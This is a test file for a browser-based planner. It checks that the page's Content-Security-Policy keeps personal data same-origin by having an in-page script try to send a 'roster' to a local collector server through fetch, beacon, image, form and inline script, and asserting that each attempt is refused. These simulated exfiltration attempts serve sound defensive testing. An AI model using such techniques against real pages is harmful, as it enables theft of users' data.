// Personal data stays in the browser: the built page carries a Content-Security-Policy that lets it
// load, run and connect to its own origin only. Shown here by trying to send data to another
// origin every way an injected script might (fetch, beacon, image, form, inline script) and seeing
// each refused by the policy, with nothing arriving at the other server, while the planner itself
// works with no violation at all. The offline and sub-path tests (offline.test.mjs) run against the
// same policy.
import { test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { launch, ready, watch, field, tableText, addPreset, sharedServer } from '../lib/harness.mjs';

const shared = sharedServer({ before, after, afterEach });

/** Collects the page's CSP violations (directive and blocked URL) from the moment it loads. */
async function violations(context) {
  await context.addInitScript(() => {
    window.cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample, where: `${e.sourceFile}:${e.lineNumber}` }));
  });
}

test('the built page declares a same-origin policy, and the planner runs under it with no violation', async () => {
  const context = shared.track(await launch());
  await violations(context);
  const page = await context.newPage();
  const problems = watch(page, new URL(shared.url).origin);
  await page.goto(shared.url);
  await ready(page);
  const policy = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  for (const directive of ["default-src 'self'", "connect-src 'self'", "worker-src 'self'", "object-src 'none'",
    "base-uri 'self'", "form-action 'none'"]) {
    assert.ok(policy.includes(directive), `policy has ${directive}: ${policy}`);
  }
  assert.ok(/script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'$/.test(policy.split('; ')[1]),
    `scripts: own origin, wasm compilation and the loader's hash only: ${policy}`);
  assert.ok(!policy.includes('unsafe-inline') && !policy.includes("'unsafe-eval'") && !policy.includes('*'),
    'nothing broader is granted');

  // Work as a planner does: a preset, an edit, the share dialog.
  await addPreset(page, 'hejing_herder');
  const table = await tableText(page);
  await field(page, 'household.members_persons').fill('5');
  await page.waitForFunction((t) => document.querySelector('[data-table=summary] tbody').textContent !== t, table);
  await page.locator('[data-action=share]').click();
  await page.locator('[role=dialog] canvas, [role=dialog] svg, [role=dialog] img').first().waitFor();
  assert.deepEqual(await page.evaluate(() => window.cspViolations), [], 'no violation in normal use');
  assert.deepEqual(problems.consoleErrors, []);
  assert.deepEqual(problems.offOrigin, []);
});

test('a script in the page cannot send anything to another origin: every way is refused by the policy', async () => {
  // Another origin (another port) that records whatever reaches it.
  const reached = [];
  const collector = createServer((req, res) => {
    reached.push(req.url);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('ok');
  });
  await new Promise((r) => collector.listen(0, '127.0.0.1', r));
  const elsewhere = {
    url: `http://127.0.0.1:${collector.address().port}/`,
    // Chromium may open a socket to it ahead of a request the policy then refuses; drop such
    // sockets rather than wait for their timeout (about 100 s). `reached` counts requests.
    close: () => {
      collector.closeAllConnections();
      return new Promise((r) => collector.close(r));
    },
  };
  const context = shared.track(await launch());
  await violations(context);
  const page = await context.newPage();
  try {
    await page.goto(shared.url);
    await ready(page);
    const target = `${elsewhere.url}collect`;
    const outcome = await page.evaluate(async (target) => {
      const results = {};
      results.fetch = await fetch(`${target}?via=fetch`, { method: 'POST', body: 'roster' })
        .then(() => 'sent', (e) => `refused: ${e.name}`);
      try {
        results.beacon = navigator.sendBeacon(`${target}?via=beacon`, 'roster') ? 'queued' : 'refused';
      } catch (e) {
        results.beacon = `refused: ${e.name}`;
      }
      results.image = await new Promise((resolve) => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('refused');
        img.src = `${target}?via=image`;
      });
      const script = document.createElement('script');
      script.textContent = 'window.injectedRan = true;';
      document.body.append(script);
      results.inlineScript = window.injectedRan ? 'ran' : 'refused';
      const form = document.createElement('form');
      form.action = `${target}?via=form`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      await new Promise((r) => setTimeout(r, 300));
      return results;
    }, target);
    assert.match(outcome.fetch, /^refused/, 'fetch to another origin');
    assert.equal(outcome.image, 'refused', 'an image request to another origin');
    assert.equal(outcome.inlineScript, 'refused', 'an injected inline script');
    const seen = await page.evaluate(() => window.cspViolations);
    const directives = new Set(seen.map((v) => v.directive));
    for (const d of ['connect-src', 'img-src', 'script-src-elem', 'form-action']) {
      assert.ok(directives.has(d), `a ${d} violation was reported: ${JSON.stringify(seen)}`);
    }
    assert.deepEqual(reached, [], 'nothing reached the other origin');
    // The planner is still there and still computes.
    assert.ok((await tableText(page)).length > 0);
  } finally {
    await elsewhere.close();
  }
});
